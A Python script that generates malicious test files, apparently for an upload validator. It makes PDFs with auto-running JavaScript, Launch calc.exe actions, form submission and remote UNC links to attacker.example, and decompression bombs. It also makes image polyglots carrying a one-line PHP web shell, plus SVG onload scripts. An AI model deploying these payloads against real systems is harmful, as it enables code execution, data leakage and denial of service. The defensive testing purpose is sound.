"""Hostile twins of sound files: one attack each, in the folder of the reason for which they are refused."""

import io
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String
from PIL import Image

SOUND, OUT = Path(sys.argv[1]), Path(sys.argv[2])
PLAIN = {"object_stream_mode": ObjectStreamMode.disable}
STREAMS = {"object_stream_mode": ObjectStreamMode.generate}
SCRIPT = "app.alert('hello')"
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"


def write(reason: str, name: str, content: bytes) -> None:
    (OUT / reason).mkdir(parents=True, exist_ok=True)
    (OUT / reason / name).write_bytes(content)


def sound(name: str) -> bytes:
    return (SOUND / name).read_bytes()


def twin(reason: str, name: str, attack, base: str = "reportlab-invoice.pdf", **options) -> None:
    """The base with this attack, saved with these options."""
    with pikepdf.open(SOUND / base) as pdf:
        attack(pdf)
        content = io.BytesIO()
        pdf.save(content, deterministic_id="encryption" not in options, **(options or STREAMS))
        write(reason, f"{name}.pdf", content.getvalue())


def action(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def javascript() -> Dictionary:
    return action("JavaScript", JS=String(SCRIPT))


def annotate(pdf: Pdf, **more) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=[50, 50, 200, 100], **more)
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", []), pdf.make_indirect(annotation)])


def field(pdf: Pdf, **more) -> None:
    widget = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=[50, 50, 200, 100], **more
    )
    widget = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=[widget])


def by(**entries):
    """Sets entries of the catalog; each value is made for the PDF it goes into."""
    return lambda pdf: [pdf.Root.__setattr__(key, make(pdf)) for key, make in entries.items()]


def tree(key: str, name: str, value) -> object:
    return lambda pdf: pdf.Root.__setattr__(
        "Names", Dictionary({f"/{key}": Dictionary(Names=[String(name), pdf.make_indirect(value(pdf))])})
    )


def file(pdf: Pdf, name: str, content: bytes, kind: str = "/application/octet-stream") -> Dictionary:
    stream = pdf.make_stream(content, Type=Name.EmbeddedFile, Subtype=Name(kind))
    return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))


def next_action(pdf: Pdf) -> None:
    chain = action(
        "GoTo",
        D=[pdf.pages[0].obj, Name.Fit],
        Next=Array([action("GoTo", D=[pdf.pages[0].obj, Name.Fit], Next=javascript())]),
    )
    annotate(pdf, Subtype=Name.Link, A=chain)


def outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Invoice"), A=action("Launch", F=String("calc.exe"))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def media(pdf: Pdf) -> Dictionary:
    return Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, CT=String("video/mp4"), D=file(pdf, "a.mp4", b"video")))


ACTIVE = {
    "open-action": by(OpenAction=lambda pdf: javascript()),
    "open-action-by-reference": by(OpenAction=lambda pdf: pdf.make_indirect(javascript())),
    "open-action-script-in-a-stream": by(
        OpenAction=lambda pdf: action("JavaScript", JS=pdf.make_stream(SCRIPT.encode()))
    ),
    "open-action-uri": by(OpenAction=lambda pdf: action("URI", URI=String("https://attacker.example/"))),
    "document-scripts": tree("JavaScript", "a", lambda pdf: javascript()),
    "catalog-before-closing": by(AA=lambda pdf: Dictionary(WC=javascript())),
    "page-opens": lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=javascript())),
    "link": lambda pdf: annotate(pdf, Subtype=Name.Link, A=javascript()),
    "link-launch": lambda pdf: annotate(pdf, Subtype=Name.Link, A=action("Launch", F=String("......calc.exe"))),
    "link-next": next_action,
    "outline-launch": outline,
    "annotation-visible": lambda pdf: annotate(pdf, Subtype=Name.Link, AA=Dictionary(PV=javascript())),
    "field-keystroke": lambda pdf: field(pdf, AA=Dictionary(K=javascript())),
    "field-submit": lambda pdf: field(
        pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://attacker.example/")))
    ),
    "field-import": lambda pdf: field(pdf, A=action("ImportData", F=String("data.fdf"))),
    "other-document": lambda pdf: annotate(
        pdf, Subtype=Name.Link, A=action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
    ),
    "other-document-opens": by(
        OpenAction=lambda pdf: action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
    ),
    "embedded-document": lambda pdf: annotate(
        pdf, Subtype=Name.Link, A=action("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf")), D=[0, Name.Fit])
    ),
    "rich-media": lambda pdf: annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
    "movie": lambda pdf: annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi"))),
    "sound": lambda pdf: annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(b"\0" * 8, R=8000)),
    "sound-action": lambda pdf: annotate(
        pdf, Subtype=Name.Link, A=action("Sound", Sound=pdf.make_stream(b"\0" * 8, R=8000))
    ),
    "rendition": lambda pdf: annotate(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0, R=media(pdf))),
    "xfa": by(
        AcroForm=lambda pdf: Dictionary(
            Fields=[], XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        )
    ),
}
EMBEDDED = {
    "program": tree("EmbeddedFiles", "a.exe", lambda pdf: file(pdf, "a.exe", b"MZ\x90\0")),
    "second-pdf": tree(
        "EmbeddedFiles", "a.pdf", lambda pdf: file(pdf, "a.pdf", sound("fpdf-invoice.pdf"), "/application/pdf")
    ),
    "page-as-xml": tree("EmbeddedFiles", "factur-x.html", lambda pdf: file(pdf, "factur-x.html", PAGE, "/text/html")),
    "attachment-annotation": lambda pdf: annotate(
        pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(file(pdf, "a.exe", b"MZ"))
    ),
    "associated-file": by(AF=lambda pdf: Array([pdf.make_indirect(file(pdf, "a.zip", b"PK\3\4"))])),
}


def pdfs() -> None:
    for name, attack in ACTIVE.items():
        twin("active", f"{name}-plain", attack, **PLAIN)
        twin("active", f"{name}-in-object-stream", attack, **STREAMS)
    script = ACTIVE["open-action-by-reference"]
    twin("active", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS)
    twin("active", "linearized", script, linearize=True)
    # One of each producer. A signature, a form and an XML stay what they were: only the script is new.
    for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
        twin("active", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
    for name, attack in EMBEDDED.items():
        twin("embedded", f"{name}-plain", attack, **PLAIN)
        twin("embedded", f"{name}-in-object-stream", attack, **STREAMS)
    plain = (OUT / "active" / "link-launch-plain.pdf").read_bytes()
    # As long as before, so that the offsets hold.
    write("active", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
    plain = (OUT / "active" / "open-action-plain.pdf").read_bytes()
    write("active", "nul-is-white-space.pdf", plain.replace(b"/S /JavaScript", b"/S\0/JavaScript"))
    write("active", "appended-update.pdf", update(sound("reportlab-invoice.pdf")))

    twin(
        "unreadable", "encrypted-with-password", lambda pdf: None, encryption=Encryption(user="secret", owner="o", R=6)
    )
    whole = sound("libreoffice-writer.pdf")
    write("unreadable", "cut-off.pdf", whole[: len(whole) // 2])
    write("unreadable", "object-stream-of-a-gigabyte.pdf", bomb(b"\0" * 2**20, 1024))
    write("unreadable", "a-million-nested-arrays.pdf", bomb(b"[" * 2**20, 1))


def update(whole: bytes) -> bytes:
    """An incremental update whose new catalog opens a script. The old file is left as it was."""
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    start = whole.rindex(b"startxref") + len(b"startxref")
    old = int(whole[start:].split()[0])
    catalog = f"<< /Type /Catalog /Pages {pages} 0 R /OpenAction << /S /JavaScript /JS ({SCRIPT}) >> >>"
    body = f"{root} 0 obj\n{catalog}\nendobj\n"
    table = f"xref\n{root} 1\n{len(whole):010} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Prev {old} >>\n"
    return whole + f"{body}{table}startxref\n{len(whole) + len(body)}\n%%EOF\n".encode()


def bomb(piece: bytes, times: int) -> bytes:
    """The catalog lies in an object stream that unpacks to so many pieces, by Flate twice."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 2 40 " + b"<< /Type /Catalog /Pages 2 0 R >>       ")
    packed += b"".join(packer.compress(piece) for _ in range(times)) + packer.flush()
    packed = zlib.compress(packed, 9)
    head = f"/Type /ObjStm /N 2 /First 9 /Filter [/FlateDecode /FlateDecode] /Length {len(packed)}"
    content = b"%PDF-1.7\n"
    offset = len(content)
    content += f"3 0 obj\n<< {head} >>\nstream\n".encode() + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 0), (2, 3, 0), (2, 3, 1), (1, offset, 0), (1, len(content), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([at]) for kind, place, at in rows)
    xref = f"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Length {len(table)} >>\nstream\n".encode()
    return content + xref + table + f"\nendstream\nendobj\nstartxref\n{len(content)}\n%%EOF\n".encode()


def archive(name: str = "a.txt", content: bytes = b"hello") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as entries:
        entries.writestr(zipfile.ZipInfo(name), content)
    return packed.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def polyglots() -> None:
    png, jpeg, pdf = sound("pillow-rgba.png"), sound("pillow-baseline.jpg"), sound("fpdf-invoice.pdf")
    jar = archive("META-INF/MANIFEST.MF", b"Main-Class: A\n")
    for name, after in {
        "archive": jar,
        "page": PAGE,
        "php": b"<?php system($_GET[0]);",
        "pdf": pdf,
        "program": b"MZ\x90\0" + bytes(60),
    }.items():
        write("content", f"png-and-{name}.png", png + after)
        write("content", f"jpeg-and-{name}.jpg", jpeg + after)
    write("content", "pdf-and-archive.pdf", pdf + jar)
    write("content", "archive-and-pdf.pdf", jar + pdf)
    write("content", "page-and-pdf.pdf", PAGE + pdf)
    write("content", "pdf-and-page.pdf", pdf + PAGE)
    comment = pdf[:900]
    write(
        "content",
        "jpeg-comment-is-a-pdf.jpg",
        jpeg[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + jpeg[2:],
    )
    write("content", "png-chunk-is-a-pdf.png", png[:33] + chunk(b"teXt", comment) + png[33:])
    write("content", "jpeg-as-png.png", jpeg)
    write("content", "png-as-pdf.pdf", png)
    write("content", "webp-as-jpeg.jpg", saved("WEBP"))
    write("content", "gif-as-png.png", saved("GIF"))
    write("content", "cut-off.png", png[:-20])
    write("content", "cut-off.jpg", jpeg[:-20])
    write("pixels", "120-megapixels.png", saved("PNG", "1", (12_000, 10_000)))
    large = jpeg.index(b"\xff\xc0") + 5
    write("pixels", "4-gigapixels.jpg", jpeg[:large] + b"\xff\xdc\xff\xdc" + jpeg[large + 4 :])


def saved(kind: str, mode: str = "L", size: tuple[int, int] = (32, 32)) -> bytes:
    content = io.BytesIO()
    Image.new(mode, size).save(content, kind)
    return content.getvalue()


def texts() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    for name, content in {
        "page.csv": PAGE,
        "page-after-blanks.txt": b"\xef\xbb\xbf \r\n\t" + PAGE,
        "svg.txt": b"<?xml version='1.0'?>" + svg,
        "script.csv": b"<script>alert(1)</script>;1\r\n",
        "page-in-utf-16.txt": PAGE.decode().encode("utf-16"),
        "nul.txt": b"a\0b\n",
        "escape-sequence.txt": b"\x1b]0;owned\x07hello\n",
        "program.txt": b"\x7fELF\x02\x01\x01" + bytes(9),
        "archive.csv": archive(),
        "pdf.txt": b"notes\n" + sound("fpdf-invoice.pdf"),
    }.items():
        write("content", name, content)
    for name, content in {
        "page.html": PAGE,
        "drawing.svg": svg,
        "archive.zip": archive(),
        "sheet.xlsx": archive("[Content_Types].xml", b"<Types/>"),
        "picture.gif": saved("GIF"),
        "script.js": b"alert(1)",
    }.items():
        write("type", name, content)


for make in [pdfs, polyglots, texts]:
    make()
